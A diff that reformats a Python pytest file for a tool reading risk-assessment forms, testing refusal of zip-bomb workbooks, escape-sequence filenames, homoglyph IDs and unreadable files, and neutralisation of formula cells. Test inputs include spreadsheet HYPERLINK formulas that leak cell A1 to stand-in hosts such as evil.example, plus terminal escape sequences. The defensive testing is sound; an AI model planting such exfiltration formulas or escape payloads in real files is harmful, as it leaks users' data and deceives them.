@@ -5,6 +5,7 @@ Most tests run the command line a user runs and stop before any kernel: a bad fo
 (exit 1 or 2), or a good one meets an output folder the tool did not make (exit 2) after the
 "read ..." line.
 """
+
 from __future__ import annotations
 
 import csv
@@ -35,8 +36,14 @@ def _limit_memory():  # a form must never need gigabytes; on the old code the XF
 
 
 def _cli(*args, timeout=120, **kwargs):
-    return subprocess.run(CLI + [str(a) for a in args], capture_output=True, text=True, timeout=timeout,
-                          preexec_fn=_limit_memory, **kwargs)
+    return subprocess.run(
+        CLI + [str(a) for a in args],
+        capture_output=True,
+        text=True,
+        timeout=timeout,
+        preexec_fn=_limit_memory,
+        **kwargs,
+    )
 
 
 def _foreign(tmp_path: Path) -> Path:
@@ -106,8 +113,10 @@ def test_a_workbook_that_unpacks_too_large_is_refused_before_parsing(tmp_path, m
         ws.append(r)
     ws["B3"] = "BOMB"
     wb.save(tmp_path / "small.xlsx")
-    with zipfile.ZipFile(tmp_path / "small.xlsx") as zin, \
-            zipfile.ZipFile(tmp_path / "bomb.xlsx", "w", zipfile.ZIP_DEFLATED) as zout:
+    with (
+        zipfile.ZipFile(tmp_path / "small.xlsx") as zin,
+        zipfile.ZipFile(tmp_path / "bomb.xlsx", "w", zipfile.ZIP_DEFLATED) as zout,
+    ):
         for item in zin.infolist():
             data = zin.read(item.filename)
             if item.filename == "xl/worksheets/sheet1.xml":  # openpyxl itself cuts strings at 32767 characters
@@ -122,8 +131,9 @@ def test_a_workbook_that_unpacks_too_large_is_refused_before_parsing(tmp_path, m
     monkeypatch.setattr("openpyxl.load_workbook", no_parse)
     with pytest.raises(DataValidationError) as info:
         load_assessment(tmp_path / "bomb.xlsx")
-    assert str(info.value.problems[0]).startswith("bomb.xlsx: workbook too large once unpacked (found 3 MB "
-                                                  "unpacked (xl/worksheets/sheet1.xml: 3 MB)")
+    assert str(info.value.problems[0]).startswith(
+        "bomb.xlsx: workbook too large once unpacked (found 3 MB unpacked (xl/worksheets/sheet1.xml: 3 MB)"
+    )
 
 
 @pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
@@ -154,8 +164,10 @@ def test_a_csv_with_too_many_rows_stops_at_the_limit(tmp_path, end):
     proc = _assess(path, tmp_path)
     _no_traceback(proc)
     assert proc.returncode == 1
-    assert "rows.csv:10002: file longer than a form may be (found a record at row 10002, expected at most " \
-           "10000 rows below the header)" in proc.stderr
+    assert (
+        "rows.csv:10002: file longer than a form may be (found a record at row 10002, expected at most "
+        "10000 rows below the header)" in proc.stderr
+    )
 
 
 def test_a_csv_larger_than_a_form_may_be_is_not_read(tmp_path):
@@ -168,12 +180,16 @@ def test_a_csv_larger_than_a_form_may_be_is_not_read(tmp_path):
 
 def test_more_challenges_than_the_chart_can_show(tmp_path):
     path = tmp_path / "many.csv"
-    path.write_text("dimension_id,challenge,importance\n"
-                    + "".join(f"supply_chain,challenge {i},2\n" for i in range(301)), encoding="utf-8")
+    path.write_text(
+        "dimension_id,challenge,importance\n" + "".join(f"supply_chain,challenge {i},2\n" for i in range(301)),
+        encoding="utf-8",
+    )
     proc = _assess(path, tmp_path)
     assert proc.returncode == 1
-    assert "many.csv:302: more challenges than an assessment form may have (found 301 challenges, expected at " \
-           "most 300" in proc.stderr
+    assert (
+        "many.csv:302: more challenges than an assessment form may have (found 301 challenges, expected at "
+        "most 300" in proc.stderr
+    )
 
 
 def test_a_long_label_and_a_long_id_are_refused_before_anything(tmp_path):
@@ -194,8 +210,7 @@ ESC_NAME = "\x1b[2J\x1b[32mall good\x1b[0m"
 def test_a_form_name_with_escape_sequences_is_refused_and_printed_escaped(tmp_path):
     path = tmp_path / f"{ESC_NAME}.csv"
     shutil.copy(EXAMPLE, path)
-    for proc in (_assess(path, tmp_path),
-                 _cli("app-check", path, "--app", "X", "--out", _foreign(tmp_path))):
+    for proc in (_assess(path, tmp_path), _cli("app-check", path, "--app", "X", "--out", _foreign(tmp_path))):
         assert proc.returncode == 2
         assert "\x1b" not in proc.stderr + proc.stdout
         assert "\\x1b[2J" in proc.stderr and "holds control characters (U+001B)" in proc.stderr
@@ -231,7 +246,7 @@ def test_names_with_control_characters_are_refused(tmp_path, option):
 def test_a_folder_given_as_the_form(tmp_path, command):
     folder = tmp_path / "form.csv"
     folder.mkdir()
-    args = ([folder, "--id", "q", "--label", "Q"] if command == "assess" else [folder, "--app", "X"])
+    args = [folder, "--id", "q", "--label", "Q"] if command == "assess" else [folder, "--app", "X"]
     proc = _cli(command, *args, "--out", tmp_path / "o")
     assert proc.returncode == 2
     assert f"error: {folder} is not a file but a folder" in proc.stderr
@@ -253,18 +268,26 @@ def test_an_unreadable_form_is_a_message_in_every_command(tmp_path):
         levels.chmod(0o000)
         user = [setpriv, "--reuid=65534", "--regid=65534", "--clear-groups"]
         env = {**os.environ, "HOME": str(shared), "PYTHONDONTWRITEBYTECODE": "1"}
-        runs = {"assess": [form, "--id", "q", "--label", "Q", "--out", shared / "a"],
-                "app-check": [form, "--app", "X", "--out", shared / "b"],
-                "build": ["--only", "00_executive_summary", "-p", "matrix_user_levels", levels,
-                          "--out", shared / "c"]}
+        runs = {
+            "assess": [form, "--id", "q", "--label", "Q", "--out", shared / "a"],
+            "app-check": [form, "--app", "X", "--out", shared / "b"],
+            "build": ["--only", "00_executive_summary", "-p", "matrix_user_levels", levels, "--out", shared / "c"],
+        }
         for command, args in runs.items():
-            proc = subprocess.run(user + CLI + [command] + [str(a) for a in args], capture_output=True, text=True,
-                                  timeout=120, env=env, cwd=shared)
+            proc = subprocess.run(
+                user + CLI + [command] + [str(a) for a in args],
+                capture_output=True,
+                text=True,
+                timeout=120,
+                env=env,
+                cwd=shared,
+            )
             _no_traceback(proc)
             assert proc.returncode == 1, (command, proc.stderr)
             name = "levels.csv" if command == "build" else "secret.csv"
-            assert f"{name}: file cannot be read (found Permission denied, expected a file you may read)" \
-                in proc.stderr, (command, proc.stderr)
+            assert (
+                f"{name}: file cannot be read (found Permission denied, expected a file you may read)" in proc.stderr
+            ), (command, proc.stderr)
     finally:
         for p in shared.iterdir():
             p.chmod(0o600) if p.is_file() else None
@@ -289,14 +312,21 @@ def _ods(path: Path) -> Path:
     return path
 
 
-@pytest.mark.parametrize("make,name,message", [
-    (_utf16, "unicode.csv", "unicode.csv: UTF-16 text (Excel's 'Unicode text'), not UTF-8 (found a UTF-16 "
-                            "byte-order mark, expected UTF-8 text (in Excel: save as 'CSV UTF-8'))"),
-    (_xls, "old.xls", "old.xls: file is an Excel 97-2003 workbook (.xls)"),
-    (_xls, "renamed.csv", "renamed.csv: file is an Excel 97-2003 workbook (.xls)"),
-    (_ods, "calc.ods", "calc.ods: file is an OpenDocument spreadsheet (.ods)"),
-    (_ods, "calc.xlsx", "calc.xlsx: file is an OpenDocument spreadsheet (.ods)"),
-])
+@pytest.mark.parametrize(
+    "make,name,message",
+    [
+        (
+            _utf16,
+            "unicode.csv",
+            "unicode.csv: UTF-16 text (Excel's 'Unicode text'), not UTF-8 (found a UTF-16 "
+            "byte-order mark, expected UTF-8 text (in Excel: save as 'CSV UTF-8'))",
+        ),
+        (_xls, "old.xls", "old.xls: file is an Excel 97-2003 workbook (.xls)"),
+        (_xls, "renamed.csv", "renamed.csv: file is an Excel 97-2003 workbook (.xls)"),
+        (_ods, "calc.ods", "calc.ods: file is an OpenDocument spreadsheet (.ods)"),
+        (_ods, "calc.xlsx", "calc.xlsx: file is an OpenDocument spreadsheet (.ods)"),
+    ],
+)
 def test_other_spreadsheet_files_are_named_as_such(tmp_path, make, name, message):
     proc = _assess(make(tmp_path / name), tmp_path)
     assert proc.returncode == 1, proc.stderr
@@ -321,13 +351,16 @@ def _write_form(path: Path, rows, row_end: str) -> Path:
     return path
 
 
-@pytest.mark.parametrize("row_end,in_cell,said", [
-    ("\r\n", "\n", "Windows (CRLF) line ends"),  # Excel on Windows: LF inside a cell, CRLF between rows
-    ("\r\n", "\r\n", "Windows (CRLF) line ends"),
-    ("\n", "\r", "LF line ends"),
-    ("\n", "\r\n", "LF line ends"),
-    ("\r", "\n", "old Mac (CR only) line ends"),
-])
+@pytest.mark.parametrize(
+    "row_end,in_cell,said",
+    [
+        ("\r\n", "\n", "Windows (CRLF) line ends"),  # Excel on Windows: LF inside a cell, CRLF between rows
+        ("\r\n", "\r\n", "Windows (CRLF) line ends"),
+        ("\n", "\r", "LF line ends"),
+        ("\n", "\r\n", "LF line ends"),
+        ("\r", "\n", "old Mac (CR only) line ends"),
+    ],
+)
 def test_line_ends_are_those_between_records_not_those_inside_quoted_cells(tmp_path, row_end, in_cell, said):
     rows = _example_rows()
     rows[1][1] = f"first line{in_cell}second line"
@@ -354,13 +387,17 @@ def test_a_quote_problem_is_located_whatever_the_line_ends(tmp_path, row_end):
     stray.write_bytes(row_end.join(head + ['supply_chain,"y"z,2', "supply_chain,w,2", ""]).encode())
     proc = _assess(stray, tmp_path)
     assert proc.returncode == 1, proc.stderr
-    assert "stray.csv:3:challenge: stray character after a closing quote (found text after a quoted cell on " \
-           "line 3," in proc.stderr, proc.stderr
+    assert (
+        "stray.csv:3:challenge: stray character after a closing quote (found text after a quoted cell on "
+        "line 3," in proc.stderr
+    ), proc.stderr
     stray.write_bytes(row_end.join(head + ['supply_chain,"y,2', "supply_chain,w,2", ""]).encode())
     proc = _assess(stray, tmp_path)
     assert proc.returncode == 1, proc.stderr
-    assert "stray.csv:3: quote opened and never closed (found a cell starting with a quote on line 3 that runs " \
-           "to the end of the file (line 4)" in proc.stderr, proc.stderr
+    assert (
+        "stray.csv:3: quote opened and never closed (found a cell starting with a quote on line 3 that runs "
+        "to the end of the file (line 4)" in proc.stderr
+    ), proc.stderr
 
 
 def test_a_nul_byte_is_refused_with_its_place(tmp_path):
@@ -407,7 +444,8 @@ def test_a_formula_with_a_saved_value_reads_as_its_value(tmp_path):
             data = zin.read(item.filename)
             if item.filename == "xl/worksheets/sheet1.xml":
                 data = data.replace(b"<f>1+2</f><v></v>", b"<f>1+2</f><v>3</v>").replace(
-                    b"<f>1+2</f><v />", b"<f>1+2</f><v>3</v>")
+                    b"<f>1+2</f><v />", b"<f>1+2</f><v>3</v>"
+                )
                 assert b"<v>3</v>" in data
             zout.writestr(item, data)
     assert int(load_assessment(dst)["importance"].iloc[0]) == 3
@@ -430,8 +468,9 @@ def test_a_hidden_first_sheet_is_not_read(tmp_path):
     wb.save(tmp_path / "h.xlsx")
     frame = load_assessment(tmp_path / "h.xlsx")
     assert "A draft nobody sees" not in set(frame["challenge"])
-    assert frame.attrs["read"] == ("h.xlsx: Excel workbook, sheet 'Form'; hidden sheet(s) 'old draft' before it "
-                                   "not read (--sheet NAME reads one)")
+    assert frame.attrs["read"] == (
+        "h.xlsx: Excel workbook, sheet 'Form'; hidden sheet(s) 'old draft' before it not read (--sheet NAME reads one)"
+    )
     hidden = load_assessment(tmp_path / "h.xlsx", sheet="old draft")
     assert list(hidden["challenge"]) == ["A draft nobody sees"]
     assert "the sheet is hidden in the workbook" in hidden.attrs["read"]
@@ -439,14 +478,16 @@ def test_a_hidden_first_sheet_is_not_read(tmp_path):
 
 def test_a_look_alike_id_names_its_foreign_letter(tmp_path):
     path = tmp_path / "homoglyph.csv"
-    path.write_text(EXAMPLE.read_text(encoding="utf-8").replace("national_security,Espionage",
-                                                                "nat\u0456onal_security,Espionage"),
-                    encoding="utf-8")
+    path.write_text(
+        EXAMPLE.read_text(encoding="utf-8").replace("national_security,Espionage", "nat\u0456onal_security,Espionage"),
+        encoding="utf-8",
+    )
     proc = _assess(path, tmp_path)
     assert proc.returncode == 1
     line = next(l for l in proc.stderr.splitlines() if l.startswith("homoglyph.csv:5:dimension_id"))
-    assert "'nat\\u0456onal_security', which holds non-ASCII U+0456 CYRILLIC SMALL LETTER " \
-           "BYELORUSSIAN-UKRAINIAN I" in line
+    assert (
+        "'nat\\u0456onal_security', which holds non-ASCII U+0456 CYRILLIC SMALL LETTER BYELORUSSIAN-UKRAINIAN I" in line
+    )
 
 
 # --------------------------------------------------------------------------- formula cells in outputs
@@ -485,8 +526,10 @@ def test_formula_cells_of_an_assessment_are_neutralised_in_the_csv_only(chapter,
     assert "'@SUM(1+1)" in joined and "'\t=1+1" in joined
     assert all(r[-1].endswith(NEUTRALISED) for r in table[1:])
     html = (out / "tab-assessment-evil-risks.html").read_text(encoding="utf-8")
-    assert "=HYPERLINK(&#34;http://evil.example/?leak=&#34;&amp;A1" in html or \
-           "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1" in html
+    assert (
+        "=HYPERLINK(&#34;http://evil.example/?leak=&#34;&amp;A1" in html
+        or "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1" in html
+    )
     instruments = (out / "tab-assessment-evil-instruments.csv").read_text(encoding="utf-8")
     assert "\n@" not in instruments and ",@" not in instruments
 
@@ -535,8 +578,9 @@ def test_formula_evidence_of_an_app_check_is_neutralised(tmp_path):
         csv.writer(fh, lineterminator="\n").writerows(rows)
     ac = AppCheck(PROJECT_ROOT / "data", tmp_path / "out", formats="png", dpi=50)
     ac.findings_table(load_app_check(path), "@Chat")
-    table = list(csv.reader(io.StringIO((tmp_path / "out" / "tab-appcheck-chat-findings.csv")
-                                        .read_text(encoding="utf-8"))))
+    table = list(
+        csv.reader(io.StringIO((tmp_path / "out" / "tab-appcheck-chat-findings.csv").read_text(encoding="utf-8")))
+    )
     assert "'" + DDE in [c for r in table for c in r]
     assert not any(c.startswith(("=", "+", "-", "@")) for r in table for c in r)
 
@@ -556,8 +600,12 @@ def test_a_cell_holding_a_carriage_return_is_quoted_in_the_csv():
 
     t = Table(["A", "B"], [["\rx", "plain"], ["a\rb", "-1"], ["c", "d"]])
     text = t.to_csv(neutralise_formulas=True)
-    assert list(csv.reader(io.StringIO(text, newline=""))) == [["A", "B"], ["'\rx", "plain"], ["a\rb", "'-1"],
-                                                               ["c", "d"]]
+    assert list(csv.reader(io.StringIO(text, newline=""))) == [
+        ["A", "B"],
+        ["'\rx", "plain"],
+        ["a\rb", "'-1"],
+        ["c", "d"],
+    ]
     assert text.startswith("A,B\n") and text.endswith("\nc,d\n")
 
 
@@ -573,12 +621,16 @@ def test_panel_text_is_compared_after_nfc_and_without_zero_width_characters(tmp_
     from osa_utils.assess import load_forms
 
     nfc, nfd = "Caf\u00e9 supply", "Cafe\u0301 supply"
-    path = _panel_form(tmp_path, "panel.csv", [
-        ["supply_chain", nfc, "2", "", "Ann"],
-        ["supply_chain", nfd, "4", "", "Bo"],
-        ["supply_chain", "Rare\u200b earths", "3", "", "Ann\u200b"],
-        ["supply_chain", "Rare earths", "3", "", "Bo"],
-    ])
+    path = _panel_form(
+        tmp_path,
+        "panel.csv",
+        [
+            ["supply_chain", nfc, "2", "", "Ann"],
+            ["supply_chain", nfd, "4", "", "Bo"],
+            ["supply_chain", "Rare\u200b earths", "3", "", "Ann\u200b"],
+            ["supply_chain", "Rare earths", "3", "", "Bo"],
+        ],
+    )
     frame, summary = load_forms(path)
     assert summary.assessors == ["Ann", "Bo"]
     assert sorted(summary.challenges["challenge"]) == ["Café supply", "Rare earths"]
@@ -590,24 +642,29 @@ def test_panel_text_is_compared_after_nfc_and_without_zero_width_characters(tmp_
 
 
 def test_an_empty_assessor_cell_is_refused_with_its_place(tmp_path):
-    path = _panel_form(tmp_path, "panel.csv", [
-        ["supply_chain", "A", "2", "", "Ann"],
-        ["supply_chain", "A", "3", "", ""],
-        ["supply_chain", "B", "3", "", "\u200b "],
-    ])
+    path = _panel_form(
+        tmp_path,
+        "panel.csv",
+        [
+            ["supply_chain", "A", "2", "", "Ann"],
+            ["supply_chain", "A", "3", "", ""],
+            ["supply_chain", "B", "3", "", "\u200b "],
+        ],
+    )
     proc = _assess(path, tmp_path)
     _no_traceback(proc)
     assert proc.returncode == 1
-    assert "panel.csv:3:assessor: empty assessor cell in a form with an assessor column (found an empty cell" \
+    assert (
+        "panel.csv:3:assessor: empty assessor cell in a form with an assessor column (found an empty cell"
         in proc.stderr
+    )
     assert "panel.csv:4:assessor: empty assessor cell" in proc.stderr
 
 
 def test_region_names_are_trimmed_before_counting():
     from osa_utils import model
 
-    a = pd.DataFrame({"paper_id": ["p1", "p1", "p2", "p3"],
-                      "region": ["Europe", "Europe ", " Europe", "Chi\u200bna"]})
+    a = pd.DataFrame({"paper_id": ["p1", "p1", "p2", "p3"], "region": ["Europe", "Europe ", " Europe", "Chi\u200bna"]})
     c = model.fractional_counts(a).set_index("region")
     assert list(c.index) == ["Europe", "China"]
     assert c.loc["Europe", "papers"] == pytest.approx(2.0)
@@ -687,16 +744,31 @@ def test_a_template_filled_in_a_spreadsheet_and_its_csv_read_as_a_spreadsheet_re
     assert header[:3] == ["dimension_id", "challenge", "importance"]
     assert str(ws.cell(2, 5).value).startswith("EXAMPLE")
     ws.delete_rows(2)  # the example row, as the template's note asks
-    typed = {"supply_chain": ("Single supplier of wafers", 3),
-             "national_security": ('=HYPERLINK("http://example.org/?leak="&A1,"x")', 4)}
+    typed = {
+        "supply_chain": ("Single supplier of wafers", 3),
+        "national_security": ('=HYPERLINK("http://example.org/?leak="&A1,"x")', 4),
+    }
     for row in ws.iter_rows(min_row=2):
         dim = row[0].value
         if dim in typed:
             row[1].value, row[2].value = typed[dim]
             row[1].data_type = "s"  # text typed into the cell, not a formula (Excel: a leading ')
     wb.save(form)
-    proc = _cli("assess", form, "--id", "filled", "--label", "Filled in a spreadsheet", "--out", out,
-                "--formats", "png", "--dpi", "50", timeout=300)
+    proc = _cli(
+        "assess",
+        form,
+        "--id",
+        "filled",
+        "--label",
+        "Filled in a spreadsheet",
+        "--out",
+        out,
+        "--formats",
+        "png",
+        "--dpi",
+        "50",
+        timeout=300,
+    )
     assert proc.returncode == 0, proc.stderr[-3000:]
     assert "form.xlsx" in proc.stdout + proc.stderr
     with open(out / "tab-assessment-filled-risks.csv", encoding="utf-8", newline="") as fh:
@@ -707,5 +779,6 @@ def test_a_template_filled_in_a_spreadsheet_and_its_csv_read_as_a_spreadsheet_re
     formula = '=HYPERLINK("http://example.org/?leak="&A1,"x")'
     assert cells["'" + formula] == "4"  # neutralised for the spreadsheet that opens it
     import html
+
     page = html.unescape((out / "tab-assessment-filled-risks.html").read_text(encoding="utf-8"))
     assert formula in page and "'" + formula not in page  # the raw value where no spreadsheet reads it
